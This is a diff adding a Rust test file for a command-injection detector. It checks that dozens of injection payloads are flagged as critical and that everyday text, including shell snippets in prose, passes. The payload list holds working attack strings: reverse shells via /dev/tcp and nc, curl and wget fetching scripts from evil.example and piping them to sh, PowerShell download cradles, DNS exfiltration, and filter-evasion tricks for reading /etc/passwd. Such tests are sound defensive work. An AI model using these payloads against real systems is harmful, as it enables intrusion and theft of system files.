@@ -1,0 +1,162 @@
+use super::{find, DETECTOR};
+use crate::detect::{Value, Where};
+use crate::rule::Severity;
+
+fn severity(text: &[u8]) -> Option<Severity> {
+    find(&Value {
+        bytes: text,
+        stood: Where::Parameter,
+        name: b"q",
+        declared: None,
+    })
+    .and_then(|found| {
+        assert!(found.at.end <= text.len() && found.at.start <= found.at.end);
+        found.severity
+    })
+}
+
+#[test]
+fn commands_are_found() {
+    for text in [
+        ";id",
+        "|id",
+        "||id",
+        "&id",
+        "&&id",
+        "\nid",
+        "`id`",
+        "$(id)",
+        "127.0.0.1;id",
+        "127.0.0.1; id",
+        "127.0.0.1 | whoami",
+        "127.0.0.1 && cat /etc/passwd",
+        "127.0.0.1\ncat /etc/passwd",
+        "x;cat${IFS}/etc/passwd",
+        "x;cat$IFS$9/etc/passwd",
+        "x;{cat,/etc/passwd}",
+        "x;cat</etc/passwd",
+        "x;c''at /etc/passwd",
+        "x;c\\at /etc/passwd",
+        "x;c$@at /etc/passwd",
+        "x;/bin/c?t /etc/passwd",
+        "x;/???/c?t /???/p??swd",
+        "x;w'h'o'am'i",
+        "x|w^h^o^a^m^i",
+        "x;wh$(x)oami",
+        "x;$'\\x77hoami'",
+        "';id;'",
+        "\";cat /etc/passwd;\"",
+        "a' && sleep 5 #",
+        "a\" | ping -c 4 10.0.0.1 | \"",
+        "foo;sleep 5",
+        "& ping -n 10 127.0.0.1 &",
+        "| dir c:\\",
+        "& type c:\\windows\\win.ini",
+        "a;curl http://evil.example/x.sh|sh",
+        "a;wget http://evil.example/x -O /tmp/x",
+        "echo aWQ= | base64 -d | bash",
+        "a;bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+        "$(curl http://evil.example/`whoami`)",
+        "() { :;}; /bin/bash -c 'id'",
+        "() { :; }; echo vulnerable",
+        "system('id')",
+        "exec(\"cat /etc/passwd\")",
+        "a;sudo -n id -u",
+        "x;X=1 id -u",
+        "x|/usr/bin/id",
+        "; powershell -enc SQBFAFgA",
+        "x & powershell IEX(New-Object Net.WebClient).DownloadString('http://x')",
+        "cmd /c dir c:\\",
+        "/bin/cat /etc/passwd",
+        "cat /etc/passwd",
+        "cat /etc/passwd | mail a@b",
+        "a;echo abc$((1+2))",
+        "a;nslookup x.evil.example",
+        "$(sleep 5)",
+        "name`sleep 5`",
+        "<!--#exec cmd=\"/bin/cat /etc/passwd\"-->",
+        "x;nc -e /bin/sh 10.0.0.1 4444",
+        "x;python -c 'import os'",
+        "x\n/bin/ls -al\n",
+        "x|ls",
+        "x;ls -la",
+    ] {
+        assert_eq!(
+            severity(text.as_bytes()),
+            Some(Severity::Critical),
+            "{text:?}"
+        );
+    }
+}
+
+#[test]
+fn what_people_write_passes() {
+    for text in [
+        "cats & dogs; find out more",
+        "AT&T",
+        "R&D | sales",
+        "price: $(100)",
+        "it's cold; cat's home",
+        "id;name;date",
+        "fields=name|id|date",
+        "en|nl|id|tr",
+        "| id | name | date |",
+        "$(document).ready(function(){})",
+        "$(id).hide()",
+        "text/html;q=0.9,application/xml;q=0.8",
+        "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
+        "AT&amp;T; the id of it",
+        "Hello ${name}, welcome; sort by date",
+        "Dear all,\n\nfind the file attached.\nsort it out & look at it\nKind regards\n",
+        "to be sorted\nlast night\nmore or less\nless is more\nwho knows\n",
+        "a && b || c",
+        "x > 5 && y < 3",
+        "if (a && time > 3) return",
+        "{\"cat\": \"dog\", \"find\": [1,2]}",
+        "name=cat&file=report.pdf&sort=date",
+        "Rock & Roll; date: 2024-05-01; time: 10:00",
+        "vector<(int)>",
+        "The Java/C++ exec (optional) call",
+        "Salt & pepper, head & shoulders",
+        "Q&A; less talk, more action",
+        "head & tail",
+        "one; two; three; more; less",
+        "red|green|blue",
+        "C:\\Users\\me\\cat.jpg",
+        "/home/user1/photo.jpg",
+        "my `id` field",
+        "see `README.md` or `name`",
+        "type: file; name: x",
+        "form-data; name=\"id\"; filename=\"a.txt\"",
+        "multipart/form-data; boundary=x",
+    ] {
+        assert_eq!(severity(text.as_bytes()), None, "{text:?}");
+    }
+}
+
+#[test]
+fn snippets_in_prose_are_not_refused() {
+    for text in [
+        "Run `ls -la` to see all files of the folder",
+        "## Install\n\n```sh\nnpm install x\ncd x && make\n```\n",
+        "First do this:\n\n    sudo apt-get install foo\n    ls -la | grep foo\n\nand then that.",
+        "You can use ps aux | grep foo to find the process that hangs",
+        "npm ci && npm run build",
+        "Please try to run curl https://example.com | sh on your machine",
+    ] {
+        let found = severity(text.as_bytes());
+        assert!(
+            found.is_none_or(|severity| severity > Severity::Critical),
+            "{text:?}"
+        );
+    }
+}
+
+#[test]
+fn bytes_that_it_needs_stand_in_what_it_finds() {
+    for text in ["cats and dogs", "id", "whoami"] {
+        assert_eq!(severity(text.as_bytes()), None);
+    }
+    assert!(!DETECTOR.needs.contains(b'a'));
+}
